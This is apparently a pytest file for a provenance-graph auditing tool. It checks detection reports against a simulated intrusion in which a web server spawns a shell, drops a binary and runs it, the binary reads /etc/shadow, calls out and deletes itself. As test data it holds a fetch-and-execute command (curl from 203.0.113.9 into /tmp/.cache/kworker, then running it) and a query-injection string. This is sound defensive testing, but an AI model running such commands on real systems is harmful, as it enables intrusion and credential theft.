"""Every auditor report on a graph built from recorded audit logs plus a planted attack
(a web server spawns a shell, which drops a binary and runs it; the binary reads
/etc/shadow as root, calls out to a remote address and deletes itself), written through
the ordinary ingest path; the same expected rows on both backends."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.api.conftest import PATIENT, serving
from tests.backends.conftest import BACKENDS, Backend, neo4j_store
from tests.test_real_logs import FIXTURE_WORKDIR, HOST, MANIFEST
from ursprung_graph.api.limits import Limits
from ursprung_graph.config import Settings
from ursprung_graph.pipeline.define import define_runs
from ursprung_graph.pipeline.importer import import_file
from ursprung_graph.pipeline.sinks import write_events
from ursprung_graph.query.reports import (
    ReportError,
    bind,
    get_report,
    load_reports,
    parse_report,
    run_report,
)
from ursprung_graph.schema.event import (
    SCHEMA_VERSION,
    Endpoint,
    Event,
    FileRef,
    Kind,
    ProcessInfo,
)
from ursprung_graph.store import embedded_server
from ursprung_graph.store.falkordb import FalkorDBStore

REPO = Path(__file__).resolve().parents[2]
DATA = REPO / "tests" / "data"
URSPRUNG = str(Path(sys.executable).parent / "ursprung")
S = 1_000_000_000
T0 = 1_795_400_000 * S  # after both recordings
W = FIXTURE_WORKDIR

SERVER = ProcessInfo(pid=5000, start=T0 - 100 * S, ppid=1, exe="/usr/sbin/nginx",
                     argv=["nginx:", "worker"], cwd="/", uid=33, euid=33)
SHELL_ARGV = ["sh", "-c", "curl -s http://203.0.113.9/k > /tmp/.cache/kworker; /tmp/.cache/kworker"]
SHELL = ProcessInfo(pid=5001, start=T0 + 2 * S, ppid=5000, exe="/bin/sh", argv=SHELL_ARGV,
                    cwd="/", uid=33, euid=33)
IMPLANT = ProcessInfo(pid=5002, start=T0 + 4 * S, ppid=5001, exe="/tmp/.cache/kworker",
                      argv=["/tmp/.cache/kworker"], cwd="/", uid=33, euid=0)


def planted() -> list[Event]:
    events: list[Event] = []

    def ev(kind: Kind, t: float, proc: ProcessInfo, **kw: object) -> None:
        events.append(Event(v=SCHEMA_VERSION, source="test", host=HOST, ts=T0 + int(t * S),
                            seq=f"planted.{len(events)}", kind=kind, proc=proc, **kw))

    ev(Kind.BIND, 0, SERVER, peer=Endpoint("inet", "0.0.0.0", 8080))
    ev(Kind.ACCEPT, 1, SERVER, peer=Endpoint("inet", "198.51.100.7", 51000))
    ev(Kind.FORK, 2, SERVER, child=SHELL)
    ev(Kind.EXEC, 2, SHELL, file=FileRef("/bin/sh"))
    ev(Kind.WRITE, 3, SHELL, file=FileRef("/tmp/.cache/kworker"))
    ev(Kind.FORK, 4, SHELL, child=IMPLANT)
    ev(Kind.EXEC, 4, IMPLANT, file=FileRef("/tmp/.cache/kworker"))
    ev(Kind.CONNECT, 5, IMPLANT, peer=Endpoint("inet", "203.0.113.9", 443))
    ev(Kind.READ, 6, IMPLANT, file=FileRef("/etc/shadow"))
    ev(Kind.WRITE, 6.5, IMPLANT, file=FileRef("/var/tmp/loot.txt"))
    ev(Kind.UNLINK, 7, IMPLANT, file=FileRef("/tmp/.cache/kworker"))
    ev(Kind.EXIT, 8, IMPLANT, exit_code=0)
    return events


def build(backend: Backend) -> None:
    store = backend.store
    import_file(store, DATA / "pipeline.audit.log", host=HOST)
    import_file(store, DATA / "two_runs.audit.log", host=HOST)
    define_runs(store, "train", r"python3(\.[0-9]+)? .*bin/train\.py --lr", host=HOST)
    write_events(store, planted())


@pytest.fixture(scope="module", params=BACKENDS)
def graph(request: pytest.FixtureRequest, store_home: Path) -> Iterator[Backend]:
    """One graph per backend for the whole module (the reports only read)."""
    if request.param == "neo4j":
        target = request.getfixturevalue("neo4j_target")
        store = neo4j_store(target)
        backend = Backend("neo4j", store, Settings(
            home=store_home, store_url=target.uri, graph="neo4j", store_user=target.user,
            store_password=target.password))
    else:
        server = embedded_server(Settings(home=store_home, store_url=None, graph="x"))
        store = FalkorDBStore(unix_socket=str(server.socket), graph="reports")
        store.ensure_schema()
        backend = Backend("falkordb", store, Settings(
            home=store_home, store_url=f"falkordb+unix://{server.socket}", graph="reports"))
    build(backend)
    yield backend
    store.clear()
    store.close()


def rows(backend: Backend, name: str, **params: object) -> list[dict[str, object]]:
    result = run_report(backend.store, get_report(name), params)
    return [dict(zip(result.columns, row, strict=True)) for row in result.rows]


SINCE = {"since": T0}
SHELL_CMD = " ".join(SHELL_ARGV)


def test_server_spawned_shell(graph: Backend) -> None:
    assert rows(graph, "server_spawned_shells", **SINCE) == [
        {"host": HOST, "server_pid": 5000, "server": "nginx: worker", "pid": 5001,
         "program": "/bin/sh", "command": SHELL_CMD, "executed": T0 + 2 * S}]
    everything = rows(graph, "server_spawned_shells", shells_only=False, **SINCE)
    assert [(r["pid"], r["program"]) for r in everything] == [
        (5001, "/bin/sh"), (5002, "/tmp/.cache/kworker")]
    # the recorded HTTP server handled requests in threads and spawned nothing
    assert rows(graph, "server_spawned_shells", shells_only=False) == everything


def test_dropped_binary(graph: Backend) -> None:
    assert rows(graph, "dropped_binaries", **SINCE) == [
        {"path": "/tmp/.cache/kworker", "host": HOST, "writer": SHELL_CMD,
         "written": T0 + 3 * S, "pid": 5002, "command": "/tmp/.cache/kworker",
         "executed": T0 + 4 * S}]
    assert rows(graph, "dropped_binaries", since=T0 + 4 * S) == []


def test_remote_connections_with_their_process_tree(graph: Backend) -> None:
    found = rows(graph, "remote_connections")
    assert [(r["pid"], r["action"], r["address"], r["port"], r["ancestry"]) for r in found] == [
        (5000, "ACCEPTED", "198.51.100.7", 51000, []),
        (5002, "CONNECTED", "203.0.113.9", 443, ["nginx: worker", SHELL_CMD]),
    ]  # the recorded pipeline only talked to 127.0.0.1


def test_sensitive_reads(graph: Backend) -> None:
    assert rows(graph, "sensitive_reads") == [
        {"path": "/etc/shadow", "host": HOST, "pid": 5002, "uid": 33, "euid": 0,
         "command": "/tmp/.cache/kworker", "first": T0 + 6 * S, "last": T0 + 6 * S}]
    raw = [r["path"] for r in rows(graph, "sensitive_reads", path_contains=f"{W}/raw/")]
    assert {f"{W}/raw/a.txt", f"{W}/raw/b.txt", f"{W}/raw/data.csv"} <= set(raw)


def test_root_started_by_non_root(graph: Backend) -> None:
    found = rows(graph, "root_from_non_root")
    # the recorded pipelines ran as root throughout: only the implant qualifies
    assert [(r["pid"], r["uid"], r["euid"], r["parent_pid"], r["parent_uid"]) for r in found] \
        == [(5002, 33, 0, 5001, 33)]


def test_files_deleted(graph: Backend) -> None:
    assert rows(graph, "files_deleted", **SINCE) == [
        {"path": "/tmp/.cache/kworker", "host": HOST, "pid": 5002,
         "command": "/tmp/.cache/kworker", "deleted": T0 + 7 * S}]


def test_user_activity(graph: Backend) -> None:
    found = rows(graph, "user_activity", uid=33)
    assert [(r["pid"], r["action"], r["object"], r["port"]) for r in found] == [
        (5000, "BOUND", "0.0.0.0", 8080),
        (5000, "ACCEPTED", "198.51.100.7", 51000),
        (5001, "EXECUTED", "/bin/sh", None),
        (5001, "WROTE", "/tmp/.cache/kworker", None),
        (5002, "EXECUTED", "/tmp/.cache/kworker", None),
        (5002, "CONNECTED", "203.0.113.9", 443),
        (5002, "READ", "/etc/shadow", None),
        (5002, "WROTE", "/var/tmp/loot.txt", None),
        (5002, "DELETED", "/tmp/.cache/kworker", None),
    ]
    assert rows(graph, "user_activity", uid=33, since=T0 + 5 * S, until=T0 + 6 * S) == [
        r for r in found if r["action"] in ("CONNECTED", "READ")]
    root = rows(graph, "user_activity", uid=0, until=T0 - 1)
    assert len(root) > 100 and {r["host"] for r in root} == {HOST}


def test_files_written_by_an_executable(graph: Backend) -> None:
    by_name = rows(graph, "files_written_by", exe="kworker")
    assert by_name == rows(graph, "files_written_by", exe="/tmp/.cache/kworker") == [
        {"path": "/var/tmp/loot.txt", "host": HOST, "processes": 1, "first": T0 + int(6.5 * S),
         "last": T0 + int(6.5 * S)}]
    assert f"{W}/work/sorted.txt" in {r["path"] for r in rows(graph, "files_written_by",
                                                             exe="uniq")}


def test_file_lineage_table(graph: Backend) -> None:
    assert [(r["writer"], r["input"]) for r in rows(graph, "file_lineage",
                                                   path="/var/tmp/loot.txt")] == [
        ("/tmp/.cache/kworker", "/etc/shadow")]
    result = rows(graph, "file_lineage", path=f"{W}/final/result.txt")
    inputs = {r["input"] for r in result}
    assert {f"{W}/work/sorted.txt", f"{W}/work/params.txt"} <= inputs
    assert f"{W}/raw/late_in.txt" not in inputs  # read only after the result was written
    before = rows(graph, "file_lineage", path=f"{W}/final/result.txt",
                  as_of=min(r["first_write"] for r in result) - 1)
    assert before == []


def test_pipeline_runs_and_outputs(graph: Backend) -> None:
    found = rows(graph, "pipeline_runs", pipeline="train")
    specs = MANIFEST["pipeline2.sh"]["runs"]
    assert len(found) == len(specs) == 2
    for row, spec in zip(found, specs, strict=True):
        assert "--lr" in row["command"] and row["exit_code"] == 0
        assert {f"{W}/{p}" for p in spec["outputs"]} <= set(row["outputs"])
        assert not {f"{W}/{p}" for p in spec["must_exclude"]} & set(row["outputs"])
    assert rows(graph, "pipeline_runs") == found  # the only pipeline
    assert rows(graph, "pipeline_runs", pipeline="nope") == []


def test_parameters_never_reach_the_statement(graph: Backend) -> None:
    report = get_report("sensitive_reads")
    hostile = "x' OR 1=1 RETURN 1 //"
    assert rows(graph, "sensitive_reads", path_contains=hostile) == []
    assert hostile not in report.statement and "$path_contains" in report.statement


def test_cli_report_run_on_the_backend(graph: Backend) -> None:
    out = subprocess.run([URSPRUNG, "report", "run", "files_deleted", "--param",
                          f"since={T0}", "--format", "csv"], env=graph.env(),
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout == ("path,host,pid,command,deleted\n"
                          f"/tmp/.cache/kworker,{HOST},5002,/tmp/.cache/kworker,{T0 + 7 * S}\n")
    bad = subprocess.run([URSPRUNG, "report", "run", "files_deleted", "--param", "since=soon"],
                         env=graph.env(), capture_output=True, text=True, timeout=120)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    assert bad.stderr.strip() == ("ursprung: error: report files_deleted: parameter since: "
                                  "expected an integer, got 'soon'")


# --- the loader, without a store ------------------------------------------------------

def test_every_report_loads_with_a_title_and_typed_parameters() -> None:
    reports = load_reports()
    assert len(reports) >= 10
    for report in reports.values():
        assert report.title and report.description and report.columns
        for p in report.parameters:
            assert p.required or p.default is None or isinstance(
                p.default, {"string": str, "integer": int, "float": float,
                            "boolean": bool}[p.type])


@pytest.mark.parametrize(("given", "message"), [
    ({"bogus": 1}, "report sensitive_reads has no parameter bogus (its parameters: "
                   "path_contains, since, until)"),
    ({"since": "yesterday"}, "parameter since: expected an integer, got 'yesterday'"),
    ({"since": True}, "parameter since: expected an integer, got True"),
    ({"since": 2**70}, "does not fit in 64 bits"),
    ({"path_contains": 5}, "parameter path_contains: expected a string, got 5"),
])
def test_bad_parameters_are_refused(given: dict[str, object], message: str) -> None:
    with pytest.raises(ReportError, match=message.replace("(", r"\(").replace(")", r"\)")):
        bind(get_report("sensitive_reads"), given)


def test_parameters_are_converted_from_text() -> None:
    assert bind(get_report("server_spawned_shells"), {"shells_only": "no", "since": "1_000"}) \
        == {"shells_only": False, "since": 1000, "until": 4611686018427387904}
    with pytest.raises(ReportError, match="parameter exe .string. is required"):
        bind(get_report("files_written_by"), {})
    assert bind(get_report("pipeline_runs"), {}) == {"pipeline": None}


@pytest.mark.parametrize(("text", "message"), [
    ("// param: a string\nRETURN $a AS a", "no '// title:' line"),
    ("// title: t\n// param: a text\nRETURN $a AS a", "type 'text' is not one of"),
    ("// title: t\n// param: a integer = x\nRETURN $a AS a", "is not a JSON value"),
    ("// title: t\n// param: a integer = \"1\"\nRETURN $a AS a", "expected an integer"),
    ("// title: t\n// param: a string, b string\nRETURN $a AS a", "without commas"),
    ("// title: t\nMATCH (n) RETURN n", "needs 'AS name'"),
    ("// title: t\n", "no statement"),
])
def test_bad_report_files_are_refused(text: str, message: str) -> None:
    with pytest.raises(ReportError, match=message):
        parse_report("r", text)


# --- the same reports through the GraphQL API (gql over HTTP) -----------------------

RUN_REPORT = """query($name: String!, $params: [ReportParamInput!], $max: Int) {
  runReport(name: $name, params: $params, maxRows: $max) { report columns rows truncated }
}"""


def test_reports_over_graphql(graph: Backend) -> None:
    with serving(graph.store, limits=PATIENT) as api:
        listed = api.query("{ reports { name title columns parameters { name type required "
                           "default } } }")["reports"]
        by_name = {r["name"]: r for r in listed}
        assert set(by_name) == set(load_reports())
        assert {"name": "since", "type": "integer", "required": False, "default": "0"} in \
            by_name["files_deleted"]["parameters"]
        got = api.query(RUN_REPORT, name="files_deleted",
                        params=[{"name": "since", "value": str(T0)}])["runReport"]
        assert got == {"report": "files_deleted", "truncated": False,
                       "columns": ["path", "host", "pid", "command", "deleted"],
                       "rows": [["/tmp/.cache/kworker", HOST, "5002", "/tmp/.cache/kworker",
                                 str(T0 + 7 * S)]]}
        # lists are JSON text; null stays null; rows past maxRows are cut and said so
        remote = api.query(RUN_REPORT, name="remote_connections")["runReport"]
        assert [r[-1] for r in remote["rows"]] == [
            "[]", json.dumps(["nginx: worker", SHELL_CMD])]
        cut = api.query(RUN_REPORT, name="user_activity", max=3,
                        params=[{"name": "uid", "value": "33"}])["runReport"]
        assert len(cut["rows"]) == 3 and cut["truncated"]
        assert cut["rows"][0][cut["columns"].index("port")] == "8080"


@pytest.mark.parametrize(("name", "params", "message"), [
    ("files_deleted", [{"name": "since", "value": "soon"}],
     "report files_deleted: parameter since: expected an integer, got 'soon'"),
    ("files_deleted", [{"name": "bogus", "value": "1"}],
     "report files_deleted has no parameter bogus"),
    ("files_written_by", [], "report files_written_by: parameter exe (string) is required"),
    ("files_deleted", [{"name": "since", "value": "1"}, {"name": "since", "value": "2"}],
     "parameter since given twice"),
    ("no_such", [], "no report 'no_such'"),
])
def test_bad_report_parameters_over_graphql(graph: Backend, name: str,
                                            params: list[dict[str, str]], message: str) -> None:
    if graph.name == "neo4j" and name != "files_deleted":
        pytest.skip("refused before the store is asked: once is enough")
    with serving(graph.store, limits=PATIENT) as api:
        [error] = api.errors(RUN_REPORT, name=name, params=params)
    assert error["extensions"]["code"] == "BAD_USER_INPUT"
    assert error["message"].startswith(message)


def test_report_rows_and_time_are_limited_over_graphql(graph: Backend) -> None:
    with serving(graph.store, limits=PATIENT) as api:
        [error] = api.errors(RUN_REPORT, name="files_deleted", max=0)
        assert error["extensions"]["code"] == "BAD_USER_INPUT" and "maxRows" in error["message"]
    with serving(graph.store, limits=Limits(time_budget=1e-9)) as api:
        [error] = api.errors(RUN_REPORT, name="user_activity",
                             params=[{"name": "uid", "value": "0"}])
    assert error["extensions"]["code"] == "TIME_BUDGET"
